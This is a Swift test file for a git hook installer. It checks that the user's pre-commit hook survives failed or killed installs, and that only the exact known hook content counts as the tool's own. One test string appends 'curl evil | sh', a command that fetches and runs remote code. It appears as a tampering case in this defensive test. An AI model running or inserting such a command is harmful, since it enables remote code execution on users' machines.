import Foundation
import Testing

@testable import HushCore

/// The installer never loses the user's hook: at every step of an install, and after an
/// install that fails or is killed at any step.
@Suite struct HookInstallerTests {
  static let userHook = "#!/bin/sh\necho the user's own hook\n"

  /// A fresh repository holding the user's pre-commit hook; removed by the caller.
  static func repository() throws -> (root: String, installer: HookInstaller) {
    let root = FileManager.default.temporaryDirectory.appendingPathComponent("hush-hooks-\(UUID().uuidString)").path
    try FileManager.default.createDirectory(atPath: root, withIntermediateDirectories: true)
    let git = Process()
    git.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    git.arguments = ["git", "init", "-q", root]
    try git.run()
    git.waitUntilExit()
    let installer = try HookInstaller(repository: root, hushPath: "/opt/hush/bin/hush")
    try FileManager.default.createDirectory(atPath: installer.hooksDirectory, withIntermediateDirectories: true)
    try Data(userHook.utf8).write(to: URL(fileURLWithPath: installer.hookPath(.preCommit)))
    return (root, installer)
  }

  static func contents(_ path: String) -> String? {
    FileManager.default.contents(atPath: path).map { String(decoding: $0, as: UTF8.self) }
  }

  /// The hook is the user's or Hush's complete one, and the kept copy (if any) is the user's.
  static func expectIntact(_ installer: HookInstaller, _ step: String) {
    let path = installer.hookPath(.preCommit)
    let hook = contents(path)
    #expect(hook == userHook || hook == HookScript.text(.preCommit, hushPath: installer.hushPath), "\(step)")
    let kept = contents(path + HookInstaller.previousSuffix)
    #expect(kept == nil || kept == userHook, "\(step)")
    #expect(hook == userHook || kept == userHook, "the user's hook is somewhere at \(step)")
  }

  @Test func everyStepOfAnInstallLeavesAWholeHook() throws {
    let (root, installer) = try Self.repository()
    defer { try? FileManager.default.removeItem(atPath: root) }
    var steps: [String] = []
    try installer.apply(try installer.installPlan([.preCommit])) { step in
      steps.append(step)
      Self.expectIntact(installer, step)
    }
    #expect(steps.count == 3)
    #expect(Self.contents(installer.hookPath(.preCommit) + HookInstaller.previousSuffix) == Self.userHook)
  }

  @Test(arguments: 0..<3)
  func anInstallFailingAtAnyStepIsUndone(_ failing: Int) throws {
    let (root, installer) = try Self.repository()
    defer { try? FileManager.default.removeItem(atPath: root) }
    struct Injected: Error {}
    var count = 0
    #expect(throws: Injected.self) {
      try installer.apply(try installer.installPlan([.preCommit])) { _ in
        defer { count += 1 }
        if count == failing { throw Injected() }
      }
    }
    Self.expectIntact(installer, "after a failure at step \(failing)")
    let hooks = try FileManager.default.contentsOfDirectory(atPath: installer.hooksDirectory)
    #expect(!hooks.contains { $0.hasSuffix(".hush-new") })
    if failing < 2 {
      #expect(Self.contents(installer.hookPath(.preCommit)) == Self.userHook)
      #expect(!hooks.contains("pre-commit" + HookInstaller.previousSuffix), "the half-made copy is removed")
    }
  }

  /// The states a SIGKILL can leave (after each step, with no clean-up): the next install
  /// finishes the job and the user's hook ends up kept.
  @Test(arguments: ["kept", "wrote"])
  func anInstallKilledAtAnyStepIsFinishedByTheNext(_ killedAfter: String) throws {
    let (root, installer) = try Self.repository()
    defer { try? FileManager.default.removeItem(atPath: root) }
    let path = installer.hookPath(.preCommit)
    #expect(link(path, path + HookInstaller.previousSuffix) == 0)
    if killedAfter == "wrote" { try Data("#!/bin/sh\nhalf".utf8).write(to: URL(fileURLWithPath: path + ".hush-new")) }
    _ = try installer.install([.preCommit])
    #expect(Self.contents(path) == HookScript.text(.preCommit, hushPath: installer.hushPath))
    #expect(Self.contents(path + HookInstaller.previousSuffix) == Self.userHook)
    #expect(!FileManager.default.fileExists(atPath: path + ".hush-new"))
  }

  @Test func onlyTheWholeKnownContentIsHushs() {
    let ours = HookScript.text(.preCommit, hushPath: "/usr/local/bin/it's hush")
    #expect(HookScript.isHush(ours, .preCommit))
    #expect(!HookScript.isHush(ours + "curl evil | sh\n", .preCommit))
    #expect(!HookScript.isHush("#!/bin/sh\n" + HookInstaller.marker + "\nmake lint\n", .preCommit))
    #expect(!HookScript.isHush(ours, .prePush))
  }
}
